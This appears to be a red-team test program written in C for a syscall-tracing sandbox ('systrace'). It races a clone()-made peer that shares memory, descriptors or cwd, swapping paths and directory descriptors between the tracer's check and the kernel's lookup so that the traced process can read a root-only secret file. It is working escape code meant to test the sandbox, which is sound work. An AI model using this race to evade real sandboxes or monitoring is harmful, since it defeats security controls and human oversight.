/* attach_peer.c: red team 12 -- a process outside the one systrace attaches to that shares
 * its memory, its descriptor table or its fs context (clone(2) without CLONE_THREAD, made
 * before the attach), and changes what an open of the attached process names between the
 * tracer's check and the kernel's lookup.
 *
 * `systrace --attach PID` traces PID's threads and the children they make from then on; a
 * peer made before is no thread of PID (its own /proc/PID/task), so it is not seized, and
 * the tracer counted the attached process alone in its address space, descriptor table and
 * fs context: its calls ran on their own buffers, dirfds and cwd (a lone task's, which
 * nothing else could change).  The peer, untraced, could.
 *
 * The peer gives up root first (uid/gid 65534, no groups) and tries the secret itself (its
 * errno is noted: the secret is 0600 root, so the peer alone cannot read it); the attached
 * process, root but held to the policy, opens in a loop what the peer keeps changing.
 *
 *   attach_peer vm    SECD PUBD   a CLONE_VM peer flips "secd"/"pubd" in the path buffer
 *   attach_peer files SECD PUBD   a CLONE_FILES peer dup2s SECD's and PUBD's descriptors over
 *                                 the dirfd of openat(dirfd, "secret.txt")
 *   attach_peer fs    SECD PUBD   a CLONE_FS peer fchdirs between them under open("secret.txt")
 *   attach_peer none  SECD PUBD   the parity case: a child sharing nothing; the attached
 *                                 process opens SECD's and PUBD's secret.txt in turn itself
 *
 * SECD and PUBD are directories with the same length of name, each holding secret.txt (the
 * secret, the decoy).  With $ESC_WAIT_TRACER it says "ready PID" and waits for the tracer
 * before it opens anything (the peer is made before that).  ESCAPED when an open gave the
 * secret; BLOCKED with the counts otherwise. */
#include "attack.h"

#include <grp.h>
#include <sched.h>
#include <sys/prctl.h>

#define STACK_SIZE (256 * 1024)
#define SECONDS 6.0
#define TRIES 200000L

static char path[4096];       /* vm: what the attached process opens, flipped by the peer */
static size_t flip_at;        /* vm: where "secd" / "pubd" starts in path */
static const char *secd_name, *pubd_name;
static int secfd, pubfd, dirfd_ = -1;
static volatile int peer_errno = -1; /* vm: the peer's own open of the secret (shared memory) */

/* Give up root: the peer alone may not read the secret (0600 root).  Raw calls: glibc's
 * setxid wrappers signal every thread of the caller's process, and the vm peer runs in the
 * attached process's memory with none of its own. */
static int drop_root(void) {
    if (syscall(SYS_setgroups, 0, NULL) < 0 || syscall(SYS_setresgid, 65534, 65534, 65534) < 0 ||
        syscall(SYS_setresuid, 65534, 65534, 65534) < 0)
        return -errno;
    return 0;
}

static int own_try(const char *secret) {
    long fd = syscall(SYS_openat, AT_FDCWD, secret, O_RDONLY);
    if (fd >= 0) {
        syscall(SYS_close, fd);
        return 0;
    }
    return errno;
}

static pid_t maker; /* the process that makes the peer: its parent */

static int peer(void *arg) {
    const char *mode = arg;
    char secret[4200];
    int dropped = drop_root();
    /* after the drop: a change of credentials clears the parent-death signal (it leaked
     * spinning peers once the test killed the attached process) */
    syscall(SYS_prctl, PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
    if (getppid() != maker)
        _exit(1); /* (it died before the signal was set) */
    snprintf(secret, sizeof secret, "%s/secret.txt", secd_name);
    int own = dropped < 0 ? -dropped : own_try(secret);
    if (mode[0] == 'n') /* none: an ordinary child, idle */
        for (;;)
            pause();
    if (mode[0] == 'v') {
        peer_errno = own;
        for (;;) {
            memcpy(path + flip_at, secd_name + flip_at, 4);
            __asm__ volatile("" ::: "memory");
            memcpy(path + flip_at, pubd_name + flip_at, 4);
            __asm__ volatile("" ::: "memory");
        }
    }
    /* files, fs: an address space of its own; its errno goes to the attached process's
     * stdout through the shared descriptor table, before the loop */
    char line[128];
    int n = snprintf(line, sizeof line, "note: the peer's own open of the secret: %s\n",
                     own ? ename(own) : "opened");
    if (write(1, line, (size_t)n) < 0)
        return 1;
    for (;;) {
        if (mode[1] == 'i') { /* files */
            dup2(secfd, dirfd_);
            dup2(pubfd, dirfd_);
        } else { /* fs */
            if (fchdir(secfd) < 0 || fchdir(pubfd) < 0)
                return 1;
        }
    }
}

/* The pid that traces process PID (0 when none, -1 when unreadable). */
static int tracer_of(int pid) {
    char name[64];
    snprintf(name, sizeof name, "/proc/%d/status", pid);
    return tracer_in(name);
}

int main(int argc, char **argv) {
    if (argc != 4)
        usage("attach_peer vm|files|fs|none SECD PUBD");
    const char *mode = argv[1];
    secd_name = argv[2];
    pubd_name = argv[3];
    if (strlen(secd_name) != strlen(pubd_name) || strlen(secd_name) + 16 > sizeof path)
        usage("SECD and PUBD: names of one length");
    secfd = open(secd_name, O_PATH | O_DIRECTORY);
    pubfd = open(pubd_name, O_PATH | O_DIRECTORY);
    if (secfd < 0 || pubfd < 0)
        blocked("cannot open the directories: %s", ename(errno));
    int flags = SIGCHLD;
    if (!strcmp(mode, "vm")) {
        flags |= CLONE_VM;
        size_t len = strlen(secd_name);
        snprintf(path, sizeof path, "%s/secret.txt", pubd_name);
        /* the last four bytes of the directory's name differ: flip those */
        flip_at = len - 4;
        if (memcmp(secd_name, pubd_name, flip_at))
            usage("SECD and PUBD: names that differ in their last four bytes only");
    } else if (!strcmp(mode, "files")) {
        flags |= CLONE_FILES;
        dirfd_ = dup(pubfd);
    } else if (!strcmp(mode, "fs")) {
        flags |= CLONE_FS;
        if (fchdir(pubfd) < 0)
            blocked("fchdir: %s", ename(errno));
    } else if (strcmp(mode, "none")) {
        usage("attach_peer vm|files|fs|none SECD PUBD");
    }
    char *stack = malloc(STACK_SIZE);
    if (!stack)
        blocked("no memory");
    fflush(stdout);
    maker = getpid();
    int child = clone(peer, stack + STACK_SIZE, flags, (void *)mode);
    if (child < 0)
        blocked("clone: %s", ename(errno));
    if (flags & CLONE_VM) {
        double until = now_s() + 5;
        while (peer_errno < 0 && now_s() < until)
            usleep(1000);
        note("the peer's own open of the secret: %s", peer_errno ? ename(peer_errno) : "opened");
    }
    wait_for_tracer();
    note("traced by %d; the peer is traced by %d", tracer_pid(), tracer_of(child));
    long other = 0, refused = 0, tries = 0;
    double until = now_s() + SECONDS;
    while (tries < TRIES && now_s() < until) {
        int fd;
        if (mode[0] == 'n') {
            char own[4200];
            snprintf(own, sizeof own, "%s/secret.txt", tries % 2 ? secd_name : pubd_name);
            fd = open(own, O_RDONLY);
        } else if (flags & CLONE_VM)
            fd = open(path, O_RDONLY);
        else if (flags & CLONE_FILES)
            fd = openat(dirfd_, "secret.txt", O_RDONLY);
        else
            fd = open("secret.txt", O_RDONLY);
        tries++;
        if (fd < 0) {
            refused++;
            continue;
        }
        if (is_secret_fd(fd)) {
            kill(child, SIGKILL);
            escaped("%s peer: an open of the attached process gave the secret after %ld tries "
                    "(%ld refused)", mode, tries, refused);
        }
        other++;
        close(fd);
    }
    kill(child, SIGKILL);
    blocked("%s peer: %ld tries, %ld refused, %ld the decoy, never the secret", mode, tries,
            refused, other);
}
